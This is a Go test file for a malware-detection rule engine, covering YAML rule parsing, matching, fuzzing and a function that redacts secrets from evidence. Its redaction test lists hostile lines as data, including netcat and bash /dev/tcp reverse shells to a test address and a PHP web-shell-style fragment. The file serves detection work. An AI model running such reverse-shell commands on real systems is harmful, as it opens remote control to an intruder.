package rules_test

import (
	"strings"
	"testing"

	"github.com/lazaret/lazaret/inspect"
	"github.com/lazaret/lazaret/inspect/internal/detecttest"
	"github.com/lazaret/lazaret/inspect/internal/rules"
)

const sample = `
rules:
  - id: line
    severity: high
    confidence: high
    what: opens it
    source: a test
    keywords: [sesame]
    pattern: 'open (?P<secret>\d{3}) sesame'
    in: {start: high, launch: medium, prose: low}
    match:
      - {path: opt/x.sh, text: "open 123 sesame", confidence: medium}
      - {path: 'config:cmd', text: "open 123 sesame"}
      - {path: usr/share/doc/x.txt, text: "open 123 sesame", confidence: low}
    pass:
      - {path: opt/x.sh, text: "  # open 123 sesame"}
      - {path: docs/x.sh, text: "open 123 sesame"}
  - id: words
    severity: high
    confidence: high
    what: has both words
    source: a test
    words: {a: [alpha, aleph], b: [beta]}
    least: 2
    match:
      - {path: bin/x, elf: true, text: "ALEPH\0beta"}
    pass:
      - {path: bin/x, elf: true, text: "alpha aleph"}
  - id: launch
    severity: high
    confidence: medium
    what: starts it
    source: a test
    programs: [torch]
    pattern: 'torch .*-f'
    match:
      - {path: 'config:cmd', text: "/bin/sh\n-c\nX=1 nice -n 5 /usr/bin/torch -f on && sleep 1"}
      - {path: etc/cron.d/x, text: "*/5 * * * * www /opt/torch -f\n"}
      - {path: opt/x.sh, text: "#!/bin/sh\nT=/opt/torch\nexec $T --now -f x\n"}
      - {path: 'config:history', text: '#(nop)  ENTRYPOINT ["tini" "--" "torch" "-f"]'}
      - {path: srv/x.py, text: "import subprocess\nsubprocess.Popen(['torch', '-f'])\n"}
      - {path: srv/x.rb, text: "system 'torch -f x'\n"}
      - {path: srv/x.js, text: "require('child_process').spawn('torch', ['-f'])\n"}
    pass:
      - {path: srv/x.py, text: "torch -f\n"}
      - {path: srv/x.py, text: "import os\nos.system('true')\na = 1\nb = 2\ntorch -f\n"}
      - {path: srv/node_modules/x/x.js, text: "require('child_process').spawn('torch', ['-f'])\n"}
      - {path: 'config:history', text: "apt-get install torch -f"}
      - {path: opt/x.sh, text: "command -v torch -f\necho torch -f\ncd torch -f\n"}
  - id: name
    severity: low
    confidence: medium
    what: is called so
    source: a test
    paths: ['(?:.*/)?su-[a-z]+']
    mode: setuid
    needs: [line]
    not: [words]
    match:
      - {path: bin/su-x, mode: 04755, text: "open 123 sesame"}
    pass:
      - {path: bin/su-x, mode: 0755, text: "x"}
      - {path: bin/su-x, mode: 04755, text: "x"}
`

func newDetector(t testing.TB, yaml string) *rules.Detector {
	t.Helper()
	d, err := rules.New(rules.Config{Name: "sample", Category: inspect.Malware, Code: "1", YAML: []byte(yaml)})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestExamples(t *testing.T) {
	yaml := strings.Replace(sample, "in: {start: high, launch: medium, prose: low}", "in: {start: high, launch: medium, prose: low, other: low}", 1)
	detecttest.Rules(t, newDetector(t, yaml))
}

func TestSecretsAreNotShown(t *testing.T) {
	got := detecttest.New(t, newDetector(t, sample)).Run(t, detecttest.Document("config:cmd", []byte("open 987 sesame")), []byte("open 987 sesame"))
	if len(got) != 1 || strings.Contains(got[0].Evidence, "987") || !strings.Contains(got[0].Evidence, "open") {
		t.Errorf("%+v", got)
	}
}

func TestErrorsNameTheRule(t *testing.T) {
	const head = "rules:\n  - {id: bad, severity: low, confidence: low, what: w, source: s, "
	for name, yaml := range map[string]string{
		"no way to match":     head + "}",
		"two ways":            head + "programs: [a], words: {a: [abc]}, least: 1}",
		"broken pattern":      head + "keywords: [abc], pattern: '('}",
		"pattern alone":       head + "pattern: abc}",
		"too many groups":     head + "words: {a: [abc]}, least: 2}",
		"unknown place":       head + "in: {moon: low}, programs: [a]}",
		"unknown check":       head + "check: none, keywords: [abc], pattern: abc}",
		"unknown rule needed": head + "needs: [other], programs: [a]}",
		"unknown type":        head + "types: [pipe], paths: [a]}",
		"unknown mode":        head + "mode: fast, paths: [a]}",
		"code without code":   head + "code: true}",
		"path in a program":   head + "programs: [bin/a]}",
		"twice":               head + "programs: [a]}\n  - {id: bad, severity: low, confidence: low, what: w, source: s, programs: [a]}",
		"no source":           "rules:\n  - {id: bad, severity: low, confidence: low, what: w, programs: [a]}",
	} {
		_, err := rules.New(rules.Config{Name: "sample", YAML: []byte(yaml)})
		if err == nil || !strings.Contains(err.Error(), `rule "bad"`) {
			t.Errorf("%s: %v", name, err)
		}
	}
	for name, yaml := range map[string]string{"unknown field": head + "colour: red}", "nothing": "rules: []", "an empty rule": "rules:\n  -\n", "no YAML": "{"} {
		if _, err := rules.New(rules.Config{Name: "sample", YAML: []byte(yaml)}); err == nil {
			t.Errorf("%s: no error", name)
		}
	}
}

func FuzzJudge(f *testing.F) {
	d := newDetector(f, sample)
	for _, r := range d.Examples() {
		for _, e := range append(r.Match, r.Pass...) {
			f.Add(e.Path, []byte(e.Text))
		}
	}
	run := detecttest.New(f, d)
	f.Fuzz(func(t *testing.T, path string, content []byte) {
		run.Run(t, detecttest.File(path, 0o755, content), content)
		run.Run(t, detecttest.Document("config:cmd", content), content)
	})
}

// Evidence of a line holds no word of it that may be a secret.
func TestConceal(t *testing.T) {
	for text, want := range map[string]string{
		"nc -e /bin/sh 198.18.7.7 4444":                                      "nc -e /bin/sh 198.18.7.7 4444",
		"curl -u me:hun" + "ter2x! https://me:hunter2x!@files.example.net/x": "curl -u … https://files.example.net",
		"tool --token=korrekt-Pferd.Batterie9 -p abc -p 80 PASS=Abcdefgh12":  "tool --token=… -p … -p 80 …",
		`f($_GET['x'], file_get_contents("korrekt9Pferd"));`:                 `f($_GET['x file_get_contents("…`,
		"bash -i >& /dev/tcp/198.18.7.7/4444 0>&1":                           "bash -i >& /dev/tcp/198.18.7.7/4444 0>&1",
	} {
		if got := rules.Conceal(text); got != want {
			t.Errorf("%q: %q, want %q", text, got, want)
		}
	}
}
